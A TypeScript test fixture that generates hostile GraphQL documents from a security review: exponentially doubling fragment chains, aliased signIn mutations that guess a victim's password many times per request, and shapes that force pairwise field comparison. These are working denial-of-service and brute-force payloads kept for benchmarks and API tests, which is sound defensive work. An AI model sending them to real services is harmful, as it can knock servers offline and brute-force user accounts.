/**
 * Hostile documents, as the security review sent them with the app's public API key: chains of
 * fragments that each spread the next one twice (a naive walk doubles its work per fragment),
 * on Query or on Mutation with aliased sign-ins, and shapes that make graphql-js compare fields
 * pairwise. Used by bench:api and the API tests.
 */

const SIGN_IN = 'signIn(input: { username: "victim@example.com", password: "Guess-1!" }) { isSignedIn }';

interface Chain {
  on: 'Query' | 'Mutation';
  /** What each fragment selects besides spreading the next one twice. */
  each?: (level: number) => string;
  /** What the last fragment selects. */
  last: string;
}

function chain(fragments: number, { on, each = () => '', last }: Chain): string {
  const lines = [`${on === 'Query' ? 'query' : 'mutation'} Bomb { ...F1 }`];
  for (let i = 1; i < fragments; i++) lines.push(`fragment F${i} on ${on} { ${each(i)} ...F${i + 1} ...F${i + 1} }`);
  lines.push(`fragment F${fragments} on ${on} { ${last} }`);
  return lines.join('\n');
}

export const fragmentBombs = {
  /** `fragment F1 on Query { ...F2 ...F2 }` …: the 900-byte request of the review at 22. */
  query: (fragments: number) => chain(fragments, { on: 'Query', last: '__typename' }),
  /** The same on Mutation, ending in two aliased sign-ins. */
  aliasedSignIns: (fragments: number) => chain(fragments, { on: 'Mutation', last: `a: ${SIGN_IN} b: ${SIGN_IN}` }),
  /** On Mutation, every fragment also adding an aliased sign-in of its own. */
  signInPerLevel: (fragments: number) => chain(fragments, { on: 'Mutation', each: (i) => `s${i}: ${SIGN_IN}`, last: `a: ${SIGN_IN}` }),
};

/** One field asked `copies` times in one selection set: graphql-js compares every pair. */
export const sameFieldRepeated = (copies: number): string => `{ ${'me { sub } '.repeat(copies)}}`;

/** `copies` fragments spread side by side, each selecting the same field: compared pairwise. */
export function fragmentsSideBySide(copies: number): string {
  const names = Array.from({ length: copies }, (_, i) => `F${i}`);
  return [`{ ${names.map((n) => `...${n}`).join(' ')} }`, ...names.map((n) => `fragment ${n} on Query { me { sub } }`)].join('\n');
}
